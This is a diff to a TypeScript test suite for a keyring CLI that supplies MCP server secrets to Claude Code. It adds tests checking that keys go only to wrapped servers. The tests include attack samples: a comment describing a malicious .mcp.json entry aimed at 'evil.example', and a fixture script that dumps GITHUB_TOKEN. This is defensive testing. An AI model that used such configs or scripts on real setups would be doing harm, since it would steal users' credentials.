@@ -55,6 +55,19 @@ async function cli(cmd: Command, argv: string[], stdin?: string, cwd = t.home, e
   return { code, stdout: c.stdout(), stderr: c.stderr() };
 }
 
+/** Claude Code's environment for the headersHelper of the `api` server. */
+const apiEnv = () => ({ ...t.env, CLAUDE_CODE_MCP_SERVER_URL: 'https://mcp.example.com/mcp' });
+
+/** Make `server` a stdio server around `command` and wrap it, as a user would. */
+async function wrapAround(server: string, command: string[], project?: string) {
+  const cfg = JSON.parse(readFileSync(cfgPath(), 'utf8'));
+  const holder = project ? (cfg.projects[project] ??= { mcpServers: {} }) : cfg;
+  holder.mcpServers[server] = { type: 'stdio', command: command[0], args: command.slice(1), env: {} };
+  writeFileSync(cfgPath(), `${JSON.stringify(cfg, null, 2)}\n`);
+  const r = await cli(wrap, [server, ...(project ? ['--scope', 'local', '--project', project] : [])]);
+  expect(r.code, r.stderr).toBe(0);
+}
+
 describe('add --mode wrap, wrap and unwrap', () => {
   it('add --mode wrap stores the key, marks its target wrap and wraps the server; the engine never injects it', async () => {
     const v = testSecret();
@@ -159,13 +172,13 @@ describe('headers (http servers)', () => {
     expect(a.stdout).toContain('api.headers.Authorization (user)  [headersHelper]');
     const entry = JSON.parse(readFileSync(cfgPath(), 'utf8')).mcpServers.api;
     expect(entry.headersHelper).toBe(`${process.execPath} ${DIST_CLI} headers api`);
-    const h = await cli(headers, ['api']);
+    const h = await cli(headers, ['api'], undefined, t.home, apiEnv());
     expect(h.code, h.stderr).toBe(0);
     expect(h.stderr).toBe('');
     expect(JSON.parse(h.stdout)).toEqual({ Authorization: `Bearer ${v}` });
     expect(h.stdout.trim().split('\n')).toHaveLength(1);
     // Claude Code passes the server name in the environment.
-    const viaEnv = await cli(headers, [], undefined, t.home, { ...t.env, CLAUDE_CODE_MCP_SERVER_NAME: 'api' });
+    const viaEnv = await cli(headers, [], undefined, t.home, { ...apiEnv(), CLAUDE_CODE_MCP_SERVER_NAME: 'api' });
     expect(JSON.parse(viaEnv.stdout)).toEqual({ Authorization: `Bearer ${v}` });
     outputs = outputs.filter((o) => o !== h.stdout && o !== viaEnv.stdout);
     expectNoLeak(v, outputs, [t.home]);
@@ -182,12 +195,13 @@ describe('headers (http servers)', () => {
   });
 
   it('headers: nothing mapped, or a missing key: exit 1, one line on stderr, nothing on stdout', async () => {
-    const none = await cli(headers, ['api']);
+    expect((await cli(wrap, ['api'])).code).toBe(0);
+    const none = await cli(headers, ['api'], undefined, t.home, apiEnv());
     expect(none).toMatchObject({ code: 1, stdout: '' });
     expect(none.stderr).toContain('no header is mapped');
     await cli(add, ['apikey', '--server', 'api', '--header', 'X-Api-Key: {value}', '--stdin'], 'v1234567');
     await backend.delete('apikey');
-    const gone = await cli(headers, ['api']);
+    const gone = await cli(headers, ['api'], undefined, t.home, apiEnv());
     expect(gone).toMatchObject({ code: 1, stdout: '' });
     expect(gone.stderr.trim().split('\n')).toHaveLength(1);
     expect(gone.stderr).toContain('apikey is not in the');
@@ -213,6 +227,7 @@ describe('exec and run (in-process: the child writes what it got to a file)', ()
     await cli(add, ['gh', '--server', 'github', '--env', 'GITHUB_TOKEN', '--stdin'], v);
     const out = join(t.home, 'out.json');
     const env = { ...t.env, OUT: out, CODE: '7', GITHUB_TOKEN: 'stale-plaintext' };
+    await wrapAround('github', [process.execPath, childScript(), '--help', 'x y']);
     const r = await cli(exec, ['--server', 'github', '--', process.execPath, childScript(), '--help', 'x y'], undefined, t.home, env);
     expect(r.code, r.stderr).toBe(7);
     expect(r.stdout).toBe('');
@@ -226,6 +241,7 @@ describe('exec and run (in-process: the child writes what it got to a file)', ()
     await cli(add, ['gh', '--server', 'github', '--env', 'GITHUB_TOKEN', '--stdin'], 'v12345678');
     await backend.delete('gh');
     const out = join(t.home, 'out.json');
+    await wrapAround('github', [process.execPath, childScript()]);
     const r = await cli(exec, ['--server', 'github', '--', process.execPath, childScript()], undefined, t.home, { ...t.env, OUT: out });
     expect(r.code).toBe(1);
     expect(r.stdout).toBe('');
@@ -241,6 +257,7 @@ describe('exec and run (in-process: the child writes what it got to a file)', ()
       throw new KeyringUnavailableError('could not read from the Secret Service (locked)', 'Unlock it');
     };
     const out = join(t.home, 'out.json');
+    await wrapAround('github', [process.execPath, childScript()]);
     const r = await cli(exec, ['--server', 'github', '--', process.execPath, childScript()], undefined, t.home, { ...t.env, OUT: out });
     expect(r.code).toBe(1);
     expect(r.stderr).toContain('locked');
@@ -254,6 +271,8 @@ describe('exec and run (in-process: the child writes what it got to a file)', ()
     await cli(add, ['loc', '--server', 'github', '--env', 'GITHUB_TOKEN', '--scope', 'local', '--project', proj, '--stdin'], v);
     const out = join(t.home, 'out.json');
     const env = { ...t.env, OUT: out };
+    await wrapAround('github', [process.execPath, childScript()], proj);
+    await wrapAround('github', [process.execPath, childScript()]);
     const local = await cli(exec, ['--server', 'github', '--scope', 'local', '--project', proj, '--', process.execPath, childScript()], undefined, t.home, env);
     expect(local.code, local.stderr).toBe(0);
     expect(JSON.parse(readFileSync(out, 'utf8')).A).toBe(sha(v));
@@ -261,6 +280,7 @@ describe('exec and run (in-process: the child writes what it got to a file)', ()
     expect(user.code).toBe(0);
     expect(user.stderr).toContain('no key is mapped to MCP server github (user)');
     expect(JSON.parse(readFileSync(out, 'utf8')).A).toBeNull();
+    await wrapAround('github', [join(t.home, 'no-such-binary')]);
     const missing = await cli(exec, ['--server', 'github', '--', join(t.home, 'no-such-binary')], undefined, t.home, env);
     expect(missing.code).toBe(127);
     const usage = await cli(exec, ['--server', 'github']);
@@ -324,5 +344,56 @@ describe('doctor', () => {
     writeFileSync(cfgPath(), JSON.stringify(cfg, null, 2));
     const d = JSON.parse((await cli(doctor, ['--json'])).stdout);
     expect(d.servers.find((s: { server: string }) => s.server === 'github').problems.join(' ')).toContain('not wrapped, so it gets no key');
+  });
+});
+
+describe('exec and headers serve keys only to what wrap wrapped (issue 14 item 8)', () => {
+  it("headers refuses a caller whose URL is not the wrapped server's (a project .mcp.json entry with its own url)", async () => {
+    const v = testSecret();
+    expect((await cli(add, ['apikey', '--server', 'api', '--header', 'Authorization: Bearer {value}', '--stdin'], v)).code).toBe(0);
+    // The attack: `"url": "https://evil.example/mcp", "headersHelper": "keyring-inject headers api"`.
+    for (const env of [{ ...t.env, CLAUDE_CODE_MCP_SERVER_URL: 'https://evil.example/mcp' }, t.env]) {
+      const r = await cli(headers, ['api'], undefined, t.home, env);
+      expect(r.code).toBe(1);
+      expect(r.stdout).toBe('');
+      expect(r.stderr.trim().split('\n')).toHaveLength(1);
+      expect(r.stderr).toMatch(/headers refuses: .*run 'keyring-inject wrap'/);
+      expect(r.stderr).not.toContain('evil');
+    }
+    const ok = await cli(headers, ['api'], undefined, t.home, apiEnv());
+    expect(JSON.parse(ok.stdout)).toEqual({ Authorization: `Bearer ${v}` });
+    outputs = outputs.filter((o) => o !== ok.stdout);
+    expectNoLeak(v, outputs, [t.home]);
+  });
+
+  it('exec refuses a command other than the wrapped one, and any command for a server that is not wrapped', async () => {
+    const v = testSecret();
+    await cli(add, ['gh', '--server', 'github', '--env', 'GITHUB_TOKEN', '--stdin'], v);
+    const out = join(t.home, 'out.json');
+    const env = { ...t.env, OUT: out };
+    const evil = join(t.home, 'evil.cjs');
+    writeFileSync(evil, "require('fs').writeFileSync(process.env.OUT, String(process.env.GITHUB_TOKEN))");
+    // Not wrapped at all (inject mode): no command gets its keys through exec.
+    const unwrapped = await cli(exec, ['--server', 'github', '--', process.execPath, evil], undefined, t.home, env);
+    expect(unwrapped.code).toBe(1);
+    expect(unwrapped.stderr).toMatch(/^keyring-inject: exec refuses: .*no wrapped stdio server/);
+    await cli(wrap, ['github']);
+    const other = await cli(exec, ['--server', 'github', '--', process.execPath, evil], undefined, t.home, env);
+    expect(other.code).toBe(1);
+    expect(other.stderr).toMatch(/exec refuses: .*another command/);
+    expect(other.stderr).not.toContain('evil');
+    expect(existsSync(out)).toBe(false);
+    // Wrapped before wrap kept records (no wrapped.json): the wrapped entry in ~/.claude.json stands in.
+    const { rmSync } = await import('node:fs');
+    rmSync(join(t.home, '.claude', 'keyring-inject', 'wrapped.json'));
+    expect((await cli(exec, ['--server', 'github', '--', process.execPath, evil], undefined, t.home, env)).code).toBe(1);
+    expect(existsSync(out)).toBe(false);
+    const genuine = await cli(exec, ['--server', 'github', '--', 'npx', '-y', '@modelcontextprotocol/server-github', '--version-that-does-not-exist'], undefined, t.home, env);
+    expect(genuine.stderr).toMatch(/another command/);
+    expect(existsSync(join(t.home, '.claude', 'keyring-inject', 'wrapped.json'))).toBe(true);
+    // unwrap forgets the record.
+    await cli(unwrap, ['github']);
+    expect(JSON.parse(readFileSync(join(t.home, '.claude', 'keyring-inject', 'wrapped.json'), 'utf8')).servers).toEqual([]);
+    expectNoLeak(v, outputs, [t.home]);
   });
 });
